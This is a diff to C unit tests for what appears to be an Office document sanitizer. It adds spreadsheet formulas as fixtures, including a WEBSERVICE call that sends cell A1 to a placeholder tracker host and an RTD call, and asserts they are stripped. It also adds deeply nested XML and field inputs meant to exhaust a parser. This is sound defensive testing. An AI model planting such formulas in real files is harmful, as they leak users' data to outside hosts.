@@ -301,6 +301,15 @@ static void dump_report(const tu_run *r)
 	}
 }
 
+/* a 1x1 red PNG */
+static const uint8_t png1[] = {
+	0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48,
+	0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00,
+	0x00, 0x90, 0x77, 0x53, 0xDE, 0x00, 0x00, 0x00, 0x0C, 0x49, 0x44, 0x41, 0x54, 0x08,
+	0xD7, 0x63, 0xF8, 0xCF, 0xC0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00, 0x18, 0xDD, 0x8D,
+	0xB0, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
+};
+
 /* ---- a clean package ------------------------------------------------------------------- */
 
 static void clean_docx(void **state)
@@ -685,6 +694,9 @@ static void xlsx_parts(void **state)
 		 "<c r=\"D1\" t=\"inlineStr\"><is><t>visible text</t></is></c>"
 		 "<c r=\"E1\"><f>SUM(Table1[2019])+'[2]Other sheet'!B2</f><v>5</v></c>"
 		 "<c r=\"F1\"><f>SUM(Table1[2019])</f><v>6</v></c>"
+		 "<c r=\"G1\"><f>_xlfn.WEBSERVICE(\"http://tracker.example/?\"&amp;A1)</f><v>x</v></c>"
+		 "<c r=\"H1\"><f>rtd(\"srv\",,\"t\")</f><v>1</v></c>"
+		 "<c r=\"I1\"><f>MYRTD(1)+\"EXEC(\"</f><v>2</v></c>"
 		 "</row></sheetData></worksheet>"},
 		{.name = "xl/worksheets/_rels/sheet1.xml.rels",
 		 .data = RELS_HEAD REL("rId1", "queryTable", "../queryTables/queryTable1.xml") RELS_TAIL},
@@ -725,6 +737,9 @@ static void xlsx_parts(void **state)
 	assert_true(has_str(sh, "SUM(1,2)"));  /* a | in a string is not DDE */
 	assert_false(has_str(sh, "Other sheet"));
 	assert_true(has_str(sh, "<f>SUM(Table1[2019])</f>")); /* a table column, not a link */
+	assert_false(has_str(sh, "WEBSERVICE"));
+	assert_false(has_str(sh, "rtd("));
+	assert_true(has_str(sh, "MYRTD(1)")); /* another function, and EXEC( in a string */
 	assert_true(has_str(sh, "visible text"));
 	free(sh);
 	assert_true(reported(&r, SK_ACTION_REMOVED, "macro-sheet", "xl/macrosheets/sheet2.xml"));
@@ -1155,15 +1170,6 @@ static void broken_packages(void **state)
 
 /* ---- unknown parts and images ------------------------------------------------------------ */
 
-/* a 1x1 red PNG */
-static const uint8_t png1[] = {
-	0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48,
-	0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x02, 0x00, 0x00,
-	0x00, 0x90, 0x77, 0x53, 0xDE, 0x00, 0x00, 0x00, 0x0C, 0x49, 0x44, 0x41, 0x54, 0x08,
-	0xD7, 0x63, 0xF8, 0xCF, 0xC0, 0x00, 0x00, 0x03, 0x01, 0x01, 0x00, 0x18, 0xDD, 0x8D,
-	0xB0, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
-};
-
 static void parts_and_images(void **state)
 {
 	(void)state;
@@ -1298,6 +1304,52 @@ static void limits(void **state)
 	tu_free(&r);
 	sk_buf_free(&in);
 	free(zeros);
+
+	/* an embedded image one level too deep: a fatal reason blocks the document */
+	ent img[] = {{.name = "word/media/image1.png", .data = (const char *)png1, .len = sizeof(png1)}};
+	docx(&in, CT_DOCX, "<Default Extension=\"png\" ContentType=\"image/png\"/>",
+	     W_DOC("<w:p><w:r><w:drawing><a:blip r:embed=\"rId2\"/></w:drawing></w:r></w:p>"),
+	     REL("rId2", "image", "media/image1.png"), img, 1);
+	sk_options_default(&opt);
+	opt.budget.max_depth = 0;
+	tu_process(in.data, in.len, "x.docx", &opt, &r);
+	assert_reason(&r, SK_REASON_LIMIT_DEPTH);
+	tu_free(&r);
+	sk_buf_free(&in);
+
+	/* XML nested deeper than the parser allows (256) */
+	sk_buf deep;
+	sk_buf_init(&deep, 0);
+	sk_buf_adds(&deep, XMLDECL "<w:document" W_NS "><w:body>");
+	for (int i = 0; i < 300; i++)
+		sk_buf_adds(&deep, "<w:sdt><w:sdtContent>");
+	for (int i = 0; i < 300; i++)
+		sk_buf_adds(&deep, "</w:sdtContent></w:sdt>");
+	sk_buf_adds(&deep, "</w:body></w:document>");
+	docx(&in, CT_DOCX, NULL, sk_buf_str(&deep), NULL, NULL, 0);
+	tu_process(in.data, in.len, "x.docx", NULL, &r);
+	assert_reason(&r, SK_REASON_MALFORMED);
+	tu_free(&r);
+	sk_buf_free(&in);
+
+	/* fields nested past FIELD_DEPTH_MAX (64), flat in the XML: 20,000 of them */
+	sk_buf_reset(&deep);
+	sk_buf_adds(&deep, XMLDECL "<w:document" W_NS "><w:body><w:p>");
+	for (int i = 0; i < 20000; i++)
+		sk_buf_adds(&deep, FLD("begin"));
+	for (int i = 0; i < 20000; i++)
+		sk_buf_adds(&deep, FLD("end"));
+	sk_buf_adds(&deep, "</w:p></w:body></w:document>");
+	docx(&in, CT_DOCX, NULL, sk_buf_str(&deep), NULL, NULL, 0);
+	clock_t t0 = clock();
+	sk_options_default(&opt);
+	opt.budget.max_ratio = 100000; /* repetitive: it compresses well */
+	tu_process(in.data, in.len, "x.docx", &opt, &r);
+	assert_true(clock() - t0 < 2 * CLOCKS_PER_SEC);
+	assert_reason(&r, SK_REASON_MALFORMED);
+	tu_free(&r);
+	sk_buf_free(&in);
+	sk_buf_free(&deep);
 }
 
 /* ---- detection: encrypted Office, packages without content types ------------------------ */
